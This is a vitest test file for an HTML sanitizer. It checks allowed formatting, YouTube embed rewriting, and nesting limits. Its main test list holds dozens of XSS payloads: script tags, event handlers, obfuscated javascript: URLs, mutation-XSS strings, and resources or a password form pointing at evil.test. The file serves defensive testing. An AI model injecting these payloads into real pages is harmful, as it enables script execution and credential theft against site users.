import { defaultPage } from '@bugquest/contract/content/pages/default-pages';
import { DEFAULT_PAGES } from '@bugquest/contract/content/pages/page-names';
import { describe, expect, it, test } from 'vitest';
import { HtmlTooDeep, MAX_HTML_DEPTH } from '../../../platform/text/html.ts';
import { sanitizeContent } from './sanitize.ts';

describe('scripts, event handlers and external resources are removed', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://evil.test/pixel.gif">',
    '<svg onload=alert(1)><circle/></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<p onclick="alert(1)">x</p>',
    '<p onmouseover=alert(1) style="position:fixed;inset:0">x</p>',
    '<p style="background:url(https://evil.test/)">x</p>',
    '<style>@import "https://evil.test/x.css";</style>',
    '<link rel=stylesheet href=https://evil.test/x.css>',
    '<meta http-equiv=refresh content="0;url=https://evil.test">',
    '<base href="https://evil.test/">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.test/x">x</a>',
    '<iframe src="https://evil.test/"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://www.youtube.com.evil.test/embed/dQw4w9WgXcQ"></iframe>',
    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload=alert(1) srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://youtu.be/dQw4w9WgXcQ"><img src=x onerror=alert(1)></iframe>',
    '<object data="https://evil.test/x.swf"></object>',
    '<embed src="https://evil.test/x.swf">',
    '<form action="https://evil.test/"><input name=password><button>Log in</button></form>',
    '<input autofocus onfocus=alert(1)>',
    '<textarea><script>alert(1)</script></textarea>',
    '<details open ontoggle=alert(1)>x</details>',
    '<video src=x onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)></audio>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert(1)</script></template>',
    '<xmp><script>alert(1)</script></xmp>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<body onload=alert(1)>x</body>',
    '<p id="root" class="fixed inset-0" name="x">x</p>',
    '"><img src=x onerror=alert(1)>',
    '<a href="https://x.test" target="_top" onclick=alert(1)>x</a>',
  ])('%s', (hostile) => {
    const safe = sanitizeContent(hostile);
    expect(safe).not.toMatch(/<(?!\/?(?:p|a|iframe|table|u|s|em|strong|code)\b)[a-z!]/i);
    expect(safe).not.toMatch(/<[^>]*\s(?:on\w+|style|id|class|name|srcdoc)\s*=/i);
    expect(safe).not.toMatch(/(?:href|src)="(?!https?:\/\/(?!evil)|mailto:|tel:|\/(?!\/)|#)/i);
    expect(safe).not.toMatch(/<iframe (?!src="https:\/\/www\.youtube-nocookie\.com\/embed\/[\w-]{11}\?)/);
    expect(safe).not.toMatch(/_top|<iframe[^>]*>[^<]/);
    expect(sanitizeContent(safe)).toBe(safe);
  });
});

test.each([
  ['<h1>A</h1><h5>B</h5>', '<h2>A</h2><h4>B</h4>'],
  [
    '<p><b>a</b> <i>b</i> <u>c</u> <del>d</del></p>',
    '<p><strong>a</strong> <em>b</em> <u>c</u> <s>d</s></p>',
  ],
  ['<ol start="3"><li><p>x</p></li></ol>', '<ol start="3"><li><p>x</p></li></ol>'],
  ['<blockquote><p>x</p></blockquote><hr>', '<blockquote><p>x</p></blockquote><hr />'],
  [
    '<table><tr><th scope="col" colspan="2">x</th></tr></table>',
    '<table><tr><th scope="col" colspan="2">x</th></tr></table>',
  ],
  ['<p dir="rtl" lang="ar">نص</p>', '<p dir="rtl">نص</p>'],
  ['<p dir="sideways">x</p>', '<p>x</p>'],
  ['<a href="/help-center">x</a>', '<a href="/help-center">x</a>'],
  ['<a href="/x" target="_blank" rel="opener">x</a>', '<a href="/x">x</a>'],
  [
    '<a href="https://example.com">x</a>',
    '<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">x</a>',
  ],
  ['<a href="mailto:qa@example.com">x</a>', '<a href="mailto:qa@example.com">x</a>'],
  ['5 < 6 & 7 > 6', '5 &lt; 6 &amp; 7 &gt; 6'],
  ['<section><p>x</p></section>', '<p>x</p>'],
])('%s is kept as %s', (typed, kept) => {
  expect(sanitizeContent(typed)).toBe(kept);
  expect(sanitizeContent(kept)).toBe(kept);
});

it('converts a video of the allowed host to an embeddable one with a restrictive frame', () => {
  const frame = sanitizeContent(
    '<iframe width="900" src="https://youtu.be/dQw4w9WgXcQ" title="Welcome"></iframe>',
  );
  expect(frame).toBe(
    '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?rel=0" title="Welcome" loading="lazy" referrerpolicy="strict-origin-when-cross-origin" allow="fullscreen; picture-in-picture; encrypted-media" allowfullscreen></iframe>',
  );
  expect(sanitizeContent(frame)).toBe(frame);
});

test.each(['', '  ', '<p></p>', '<p><br></p> <p dir="rtl">&nbsp;</p>', '<script>x</script>'])(
  'HTML without visible content becomes empty: %j',
  (typed) => expect(sanitizeContent(typed)).toBe(''),
);

test.each(DEFAULT_PAGES)('the default text of %s stays unchanged in both languages', (name) => {
  const [english, arabic] = [defaultPage(name, 'en'), defaultPage(name, 'ar')];
  for (const { title, content, metaDescription } of [english, arabic]) {
    expect(title).not.toBe('');
    expect(metaDescription).not.toBe('');
    expect(sanitizeContent(content)).toBe(content.replaceAll('<br>', '<br />'));
    expect(content).toMatch(/^<(p|ul)>/);
  }
  expect(arabic.title).toMatch(/[\u0600-\u06FF]/);
  expect(arabic.content).toMatch(/[\u0600-\u06FF]/);
});

describe('nested elements', () => {
  const nested = (depth: number) => `${'<blockquote>'.repeat(depth)}x${'</blockquote>'.repeat(depth)}`;

  test('are kept up to the limit', () => {
    expect(sanitizeContent(nested(MAX_HTML_DEPTH))).toBe(nested(MAX_HTML_DEPTH));
  });

  test.each([nested(MAX_HTML_DEPTH + 1), '<blockquote>'.repeat(8_000), '<svg>'.repeat(20_000)])(
    'are refused above it',
    (html) => expect(() => sanitizeContent(html)).toThrow(HtmlTooDeep),
  );
});
